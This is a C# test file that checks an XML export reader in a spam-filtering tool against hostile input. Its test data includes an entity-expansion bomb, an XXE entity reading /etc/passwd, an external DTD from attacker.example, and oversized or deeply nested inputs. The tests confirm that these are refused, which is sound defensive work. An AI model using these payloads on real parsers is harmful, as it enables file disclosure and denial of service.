using System.Diagnostics;
using SpamSense.Exports.Tests.Platforms;

namespace SpamSense.Exports.Tests.Xml;

public sealed class HostileXmlTests
{
    private const string Start = "<rss xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel>";
    private const string Post = "<item><content:encoded>kept</content:encoded></item>";
    private const string End = "</channel></rss>";

    [Theory]
    [InlineData("<!DOCTYPE rss [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>")]
    [InlineData("<!DOCTYPE rss [<!ENTITY file SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE rss SYSTEM \"https://attacker.example/x.dtd\">")]
    [InlineData("<!doctype rss>")]
    public void A_document_type_is_refused_with_one_sentence(string declaration)
    {
        foreach (var before in (string[])["", "<?xml version=\"1.0\"?>\n", "<!-- x -->\n"])
        {
            var refused = Assert.Throws<ExportFormatException>(() => XmlExport.Read($"{before}{declaration}{Start}<item><content:encoded>&c;&file;</content:encoded></item>{End}"));

            Assert.Equal("'in' declares a document type (DTD), as web pages and attacks do and no export does: it is not read.", refused.Message);
        }
    }

    [Theory]
    [InlineData("<!DOCTYPE rss [<!ENTITY a \"aaaa\">]>")]
    [InlineData("<wp:unclosed>")]
    [InlineData("</item>")]
    [InlineData("<a b='1' b='2'/>")]
    public void What_is_before_a_broken_place_is_kept(string broken)
    {
        var export = XmlExport.Read($"{Start}{Post}\n{broken}\n{Post}{End}");

        Assert.Equal("kept", export.Posts[0].Text);
        Assert.Equal("the file is cut or damaged from here on", export.Unreadable.Single().Reason);
        Assert.InRange(export.Unreadable.Single().Line, 2, 3);
    }

    [Fact]
    public void An_entity_that_nobody_declared_is_the_text_that_it_is() =>
        Assert.Equal("&xxe; &lol9;", XmlExport.Read($"{Start}<item><content:encoded>&xxe; &lol9;</content:encoded></item>{End}").Posts[0].Text);

    [Fact]
    public void What_stands_behind_the_end_is_complained_of()
    {
        var export = XmlExport.Read($"{Start}{Post}{End}\n{Start}{Post}{End}");

        Assert.Single(export.Posts);
        Assert.Equal(2, export.Unreadable.Single().Line);
    }

    [Fact]
    public void Elements_may_be_nested_deep_but_not_without_end()
    {
        var nested = Read(10_000);

        Assert.Equal(["kept", "kept"], nested.Posts.Select(post => post.Text));
        Assert.Empty(nested.Unreadable);
        Assert.Equal("elements are nested deeper than 20,000 levels", Read(1_000_000).Unreadable.Single().Reason);

        static XmlExport Read(int depth) => XmlExport.Read(
            $"{Start}{Post}<item>{string.Concat(Enumerable.Repeat("<d>", depth))}{string.Concat(Enumerable.Repeat("</d>", depth))}</item>{Post}{End}");
    }

    [Fact]
    public void A_text_with_deep_elements_is_their_text()
    {
        var deep = string.Concat(Enumerable.Repeat("<i>", 5000)) + "deep" + string.Concat(Enumerable.Repeat("</i>", 5000));

        Assert.Equal("deep", XmlExport.Read($"{Start}<item><content:encoded>{deep}<br/></content:encoded></item>{End}").Posts[0].Text);
    }

    [Fact]
    public void A_tag_that_never_ends_is_refused_where_it_begins()
    {
        var export = XmlExport.Read($"{Start}{Post}\n<item a=\"{new string('>', 5_000_000)}\"/>{Post}{End}");

        Assert.Equal(["kept"], export.Posts.Select(post => post.Text));
        Assert.Equal("a tag of the XML is longer than 4,194,304 characters", export.Unreadable.Single().Reason);
    }

    [Fact]
    public void Names_without_end_are_refused()
    {
        var export = XmlExport.Read($"{Start}{Post}{string.Concat(Enumerable.Range(0, 20_000).Select(i => $"<n{i}/>"))}{Post}{End}");

        Assert.Equal(["kept"], export.Posts.Select(post => post.Text));
        Assert.Equal("the XML has too many names of elements", export.Unreadable.Single().Reason);
    }

    [Theory]
    [InlineData("<![CDATA[", "]]]", "]]>")]
    [InlineData("<!--", "-- --", "-->")]
    [InlineData("<?", "? ?", "?>")]
    [InlineData("", "&", "")]
    [InlineData("", "&#", "")]
    [InlineData("", "<", "")]
    [InlineData("", "]]", "")]
    [InlineData("<i a='", "&", "'/>")]
    public void Any_sign_over_and_over_takes_linear_time(string before, string sign, string after)
    {
        var clock = Stopwatch.StartNew();
        var export = XmlExport.Read($"{Start}<item><content:encoded>{before}{string.Concat(Enumerable.Repeat(sign, 500_000))}{after}</content:encoded></item>{Post}{End}");

        Assert.Equal("kept", export.Posts[^1].Text);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"{clock.Elapsed}");
    }

    [Fact]
    public void Columns_that_are_elements_and_elements_that_are_columns_are_no_text()
    {
        Assert.Equal(["kept"], XmlExport.Read($"{Start}<item content=\"no\"><content:encoded/></item>{Post}{End}").Posts.Select(post => post.Text));
        Assert.Empty(XmlExport.Read("<comments><row PostId=\"1\" Text=\"\" /><row><Text>no</Text></row><other Text=\"no\" /></comments>").Posts);
    }

    [Theory]
    [InlineData("<feed xmlns=\"urn:x\"><a>1</a></feed>")]
    [InlineData("<?xml version=\"1.0\"?><a>1</a>")]
    public void Other_XML_is_refused_and_told_what_is_known(string xml)
    {
        var refused = Assert.Throws<ExportFormatException>(() => XmlExport.Read(xml));

        Assert.StartsWith("'in' is XML of a kind that is not known here. Known are", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_column_whose_name_begins_with_a_tag_is_a_column() => Assert.Equal(ExportFormat.Csv, XmlExport.Read("<b>text</b>,n\nhello there,1\n").Format);
}
